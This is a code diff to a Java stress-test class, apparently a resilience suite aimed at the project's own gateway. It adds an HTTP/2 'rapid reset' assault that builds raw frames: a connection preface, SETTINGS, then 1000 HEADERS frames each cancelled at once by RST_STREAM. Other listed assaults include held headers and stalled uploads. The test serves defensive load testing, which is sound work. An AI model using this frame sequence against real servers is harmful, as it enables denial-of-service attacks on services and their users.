@@ -2,6 +2,7 @@ package io.tidemark.local.suite;
 
 import java.io.IOException;
 import java.net.http.HttpResponse;
+import java.nio.ByteBuffer;
 import java.nio.charset.StandardCharsets;
 import java.time.Duration;
 import java.util.List;
@@ -19,6 +20,7 @@ final class Assaults {
 
     private static final long LONGER_THAN_THE_HEAP = 600_000_000;
     private static final long BYTES_PER_SECOND = 20_000_000;
+    private static final int RESETS = 1000;
     private static final Duration HOLD = Duration.ofSeconds(8);
     private static final Duration AT_ONCE = Duration.ofMillis(20);
     private static final String HOST = "Host: shop.example|";
@@ -64,6 +66,7 @@ final class Assaults {
                 assault("500 heads of 60 KB that do not end", 500, () -> held(GATEWAY, HALF_HEAD)),
                 assault("200 uploads that stop", 200, this::stalledUpload),
                 assault("uploads that are broken off", 20, this::brokenUpload),
+                assault("HTTP/2 requests that are reset at once", 4, Assaults::rapidResets),
                 assault("a path at which the origin drops", 1, () -> get("/api/products/siege-drop-" + next(), "")),
                 assault("reloads of one product", 2, () -> get("/api/products/chaos-1", "Cache-Control: no-cache|")),
                 assault("writes with no host", 1, () -> post("/api/products/siege", "Host: .|")),
@@ -113,6 +116,24 @@ final class Assaults {
         try (var client = new RawClient(GATEWAY)) {
             client.send("POST /api/orders HTTP/1.1|" + HOST + "Content-Length: 100000||hello");
             return "left";
+        }
+    }
+
+    /** Until the gateway ends the connection, by prior knowledge (RFC 9113, RFC 7541 §6). */
+    private static String rapidResets() throws IOException, InterruptedException {
+        byte[] fields = {(byte) 0x82, (byte) 0x86, 0x04, 2, '/', 'r', 0x01, 1, 'a'}; // GET http /r of a
+        var frames = ByteBuffer.allocate(24 + 9 + RESETS * (9 + fields.length + 13));
+        frames.put("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(StandardCharsets.ISO_8859_1));
+        frames.put(new byte[] {0, 0, 0, 4, 0, 0, 0, 0, 0}); // SETTINGS
+        for (int stream = 1; frames.hasRemaining(); stream += 2) {
+            frames.put(new byte[] {0, 0, (byte) fields.length, 1, 5})
+                    .putInt(stream)
+                    .put(fields); // HEADERS, the end
+            frames.put(new byte[] {0, 0, 4, 3, 0}).putInt(stream).putInt(8); // RST_STREAM, CANCEL
+        }
+        try (var client = new RawClient(GATEWAY)) {
+            client.send(frames.array()).read(LARGE, LARGE);
+            return "ended";
         }
     }
 
